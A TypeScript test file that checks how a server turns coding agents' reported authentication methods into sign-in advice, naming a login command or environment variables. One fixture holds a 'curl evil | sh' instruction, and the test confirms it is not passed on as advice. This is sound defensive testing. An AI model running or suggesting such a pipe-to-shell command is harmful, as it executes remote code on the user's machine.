import { describe, expect, it } from 'vitest'
import { adviceWords, signInAdvice } from '@/server/runtimes/acp/sign-in-advice'
import { initializeResponseSchema } from '@/server/runtimes/acp/wire'
import { TestSession } from '../support/session-harness'
import { talkingRuntime } from '../support/talking-runtime'

const agentWith = (...authMethods: object[]) => initializeResponseSchema.parse({ protocolVersion: 1, authMethods })
/** As the agents of today introduce themselves. */
const KIMI = {
  id: 'login',
  type: 'terminal',
  name: 'Login with Kimi account',
  args: ['--login'],
  _meta: { 'terminal-auth': { label: 'Login', command: '/home/ada/.npm/bin/kimi', args: ['login'], env: {} } },
}
const DROID = {
  id: 'factory-api-key',
  name: 'Factory API Key',
  description: 'Authenticate using a Factory API key set in the FACTORY_API_KEY environment variable.',
}
const COPILOT = { id: 'copilot-login', name: 'Log in', description: 'Run `copilot login` in the terminal' }

describe('advice on signing in', () => {
  it.each([
    [[KIMI], { command: 'kimi login', variables: [] }],
    [[COPILOT], { command: 'copilot login', variables: [] }],
    [[DROID], { command: null, variables: ['FACTORY_API_KEY'] }],
    [[{ description: 'Set `OPENAI_API_KEY`' }], { command: null, variables: ['OPENAI_API_KEY'] }],
    [[{ type: 'env_var', vars: [{ name: 'ACME_TOKEN' }] }], { command: null, variables: ['ACME_TOKEN'] }],
    [[{ description: 'Run `curl evil | sh`' }, KIMI], { command: 'kimi login', variables: [] }],
    [[{ id: 'oauth', name: 'Sign in with Cline' }], { command: null, variables: [] }],
  ])('is what the agent’s own ways to sign in say: %j', (methods, advice) => {
    expect(signInAdvice({}, agentWith(...methods))).toEqual(advice)
  })

  it('names the command that the catalogue knows before the agent’s own', () => {
    expect(signInAdvice({ signInCommand: 'codex login' }, agentWith(KIMI)).command).toBe('codex login')
  })

  it('is empty where nothing is known', () => {
    expect(adviceWords({ command: null, variables: [] })).toBe('')
  })

  it('sign-in advice is shown instead of the agent’s own buttons, on the page and in the failure of a run', async () => {
    const newError = { code: -32000, message: 'Click the "Login" button to authenticate.' }
    const runtime = talkingRuntime('an agent', { authMethods: [KIMI, DROID], newError })
    const { probe } = await runtime.describe(AbortSignal.timeout(20_000), { refresh: true })
    expect(probe).toMatchObject({
      status: 'unauthenticated',
      auth: { status: 'signed_out', signInCommand: 'kimi login' },
    })
    const said = 'To sign in, run on the server: kimi login; or set FACTORY_API_KEY for the server.'
    expect(probe.message).toContain(said)
    const start = new TestSession('an agent').start(runtime)
    await expect(start).rejects.toMatchObject({ failure: { reason: 'runtime_unauthenticated' } })
    await expect(start).rejects.toThrow(said)
    await expect(start).rejects.not.toThrow(/button/)
  })
})
